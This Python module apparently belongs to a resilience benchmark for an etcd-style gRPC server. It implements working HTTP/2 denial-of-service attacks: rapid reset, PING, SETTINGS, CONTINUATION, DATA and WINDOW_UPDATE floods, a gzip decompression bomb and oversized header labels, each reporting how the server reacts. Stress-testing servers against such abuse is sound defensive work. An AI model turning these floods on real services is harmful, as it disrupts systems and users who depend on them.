"""Attacks by HTTP/2 frames: each frame is cheap to send, and some are costly to process."""

import gzip
import time

from bench.abuse.http_attacks import in_words
from bench.abuse.target import Attack, Seen, Target
from bench.abuse.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Wire,
    frame,
    head,
    literal,
    message,
)
from kvorum.api.codec import varint

RANGE = head(b"/etcdserverpb.KV/Range")
WATCH = head(b"/etcdserverpb.Watch/Watch")
CREATE = b"\x0a\x03\x0a\x01k"
CANCEL = (8).to_bytes(4, "big")
BATCH = 500
UNPACKED_BYTES = 1_500_000
LABEL_BYTES = 900_000


def flood(wire: Wire, each: bytes, count: int, deadline: float, what: str) -> Seen:
    """Send a frame `count` times, or until the server closes the connection."""
    sent = 0
    for _ in range(0, count, BATCH):
        sent += wire.send(each * min(BATCH, count), deadline) // len(each)
        if wire.is_closed or time.monotonic() > deadline:
            break
    is_heard = wire.is_closed or _is_alive(wire, deadline)
    end = f"GOAWAY {wire.goaway}" if wire.goaway is not None else "closed" if wire.is_closed else ""
    return Seen(f"{sent:,} {what}; {end or ('all taken' if is_heard else 'not answered')}")


def _is_alive(wire: Wire, deadline: float) -> bool:
    """Return whether the server answers a call on the same connection."""
    return wire.answered(wire.call(RANGE, b"\x0a\x01k", deadline), deadline) == "0"


def rapid_reset(target: Target, count: int, deadline: float) -> Seen:
    """Open streams with a call each, and cancel each immediately."""
    body = frame(DATA, END_STREAM, 0, message(b"\x0a\x01k"))
    sent = 0
    with Wire(target.client) as wire:
        while sent < count and not wire.is_closed and time.monotonic() < deadline:
            pieces = []
            for _ in range(BATCH):
                stream = wire.next_stream().to_bytes(4, "big")
                opening = frame(HEADERS, END_HEADERS, 0, RANGE)
                reset = frame(RST_STREAM, 0, 0, CANCEL)
                for part in (opening, body, reset):
                    pieces += [part[:5], stream, part[9:]]
            wire.send(b"".join(pieces), deadline)
            sent += BATCH
        wire.until(lambda: wire.is_closed, min(deadline, time.monotonic() + target.hold_seconds))
        end = f"GOAWAY {wire.goaway}" if wire.goaway is not None else "all taken"
    return Seen(f"{sent:,} calls cancelled; {end}")


def pings(target: Target, count: int, deadline: float) -> Seen:
    """Send pings without a pause."""
    with Wire(target.client) as wire:
        return flood(wire, frame(PING, 0, 0, bytes(8)), count, deadline, "pings")


def pings_unread(target: Target, count: int, deadline: float) -> Seen:
    """Send pings, and read none of the answers."""
    with Wire(target.client, reads=False) as wire:
        end = min(deadline, time.monotonic() + target.hold_seconds)
        sent = wire.send(frame(PING, 0, 0, bytes(8)) * count, end)
        return Seen(f"{sent // 17:,} pings were taken")


def settings(target: Target, count: int, deadline: float) -> Seen:
    """Change the window size back and forth without a pause."""
    with Wire(target.client) as wire:
        wire.call(WATCH, CREATE, deadline, end=False)
        changes = b"".join(
            frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + size.to_bytes(4, "big"))
            for size in (1, 65_535)
        )
        return flood(wire, changes, count // 2, deadline, "pairs of settings")


def continuations(target: Target, count: int, deadline: float) -> Seen:
    """Start a request with endless headers: each frame adds a kilobyte."""
    with Wire(target.client) as wire:
        wire.send(frame(HEADERS, 0, wire.next_stream(), RANGE), deadline)
        more = frame(CONTINUATION, 0, 1, literal(b"x", bytes([0x61]) * 1000))
        sent = 0
        while sent < count and not wire.is_closed and time.monotonic() < deadline:
            sent += wire.send(more * 100, deadline) // len(more)
        wire.until(lambda: wire.is_closed, min(deadline, time.monotonic() + target.hold_seconds))
        end = f"GOAWAY {wire.goaway}" if wire.goaway is not None else "closed"
        return Seen(f"{sent:,} frames; {end if wire.is_closed else 'all taken'}")


def empty_continuations(target: Target, count: int, deadline: float) -> Seen:
    """Start a request with endless headers: each frame is empty."""
    with Wire(target.client) as wire:
        wire.send(frame(HEADERS, 0, wire.next_stream(), RANGE), deadline)
        more = frame(CONTINUATION, 0, 1)
        sent = 0
        while sent < count and not wire.is_closed and time.monotonic() < deadline:
            sent += wire.send(more * BATCH, deadline) // len(more)
        wire.until(lambda: wire.is_closed, min(deadline, time.monotonic() + target.hold_seconds))
        end = f"GOAWAY {wire.goaway}" if wire.goaway is not None else "closed"
        return Seen(f"{sent:,} frames; {end if wire.is_closed else 'all taken'}")


def empty_data(target: Target, count: int, deadline: float) -> Seen:
    """Send empty DATA frames on a stream."""
    with Wire(target.client) as wire:
        stream = wire.call(WATCH, CREATE, deadline, end=False)
        return flood(wire, frame(DATA, 0, stream), count, deadline, "empty frames")


def empty_messages(target: Target, count: int, deadline: float) -> Seen:
    """Send empty messages on a watch stream."""
    with Wire(target.client) as wire:
        stream = wire.call(WATCH, CREATE, deadline, end=False)
        wire.say(stream, message(b"") * count + message(CREATE), deadline)
        is_served = wire.until(lambda: wire.messages[stream] >= 2, deadline)
        text = "all served" if is_served else "closed" if wire.is_closed else "held back"
        return Seen(f"{count:,} messages; {text}; {in_words(wire.statuses)}")


def window_updates(target: Target, count: int, deadline: float) -> Seen:
    """Grant window credit byte by byte, to a stream and to the connection."""
    with Wire(target.client, window=FRAME_BYTES) as wire:
        stream = wire.call(WATCH, CREATE, deadline, end=False)
        one = (1).to_bytes(4, "big")
        each = frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, stream, one)
        return flood(wire, each, count // 2, deadline, "pairs of credits")


def gzip_bomb(target: Target, count: int, deadline: float) -> Seen:
    """Send messages on a watch stream that grow a thousandfold when decompressed."""
    # Zeros in an unknown field, as many as a request may have.
    inner = b"\x7a" + varint(UNPACKED_BYTES) + bytes(UNPACKED_BYTES)
    packed = gzip.compress(inner, 9)
    block = head(b"/etcdserverpb.Watch/Watch", (b"grpc-encoding", b"gzip"))
    with Wire(target.client) as wire:
        stream = wire.next_stream()
        wire.send(frame(HEADERS, END_HEADERS, stream, block), deadline)
        wire.say(stream, message(packed, 1) * count + message(CREATE), deadline)
        is_served = wire.until(lambda: wire.messages[stream] >= 1, deadline)
        text = "all served" if is_served else "closed" if wire.is_closed else "held back"
        sizes = f"{count:,} messages of {len(packed):,} bytes, {len(inner):,} unpacked"
        return Seen(f"{sizes}; {text}; {in_words(wire.statuses)}")


def version_labels(target: Target, count: int, deadline: float) -> Seen:
    """Make calls with a different `client-api-version` of 900 KB each."""
    with Wire(target.client) as wire:
        for number in range(count):
            label = b"%08d" % number + b"9" * LABEL_BYTES
            block = head(b"/etcdserverpb.KV/Range", (b"client-api-version", label))
            stream = wire.next_stream()
            pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
            last = len(pieces) - 1
            frames = [
                frame(CONTINUATION if at else HEADERS, END_HEADERS * (at == last), stream, piece)
                for at, piece in enumerate(pieces)
            ]
            frames.append(frame(DATA, END_STREAM, stream, message(b"\x0a\x01k")))
            wire.send(b"".join(frames), deadline)
            if wire.is_closed:
                break
        wire.until(lambda: len(wire.ended) >= count, deadline)
        return Seen(f"{in_words(wire.statuses)}{', closed' if wire.is_closed else ''}")


ATTACKS = (
    Attack("rapid reset", rapid_reset, 50_000, 500),
    Attack("PING flood", pings, 200_000, 500),
    Attack("PING flood, unread", pings_unread, 500_000, 500),
    Attack("SETTINGS flood", settings, 100_000, 500),
    Attack("CONTINUATION flood", continuations, 20_000, 200),
    Attack("empty CONTINUATION flood", empty_continuations, 200_000, 500),
    Attack("empty DATA flood", empty_data, 200_000, 500),
    Attack("empty messages", empty_messages, 200_000, 500),
    Attack("WINDOW_UPDATE flood", window_updates, 200_000, 500),
    Attack("gzip bomb", gzip_bomb, 1_000, 5),
    Attack("version labels", version_labels, 100, 3),
)
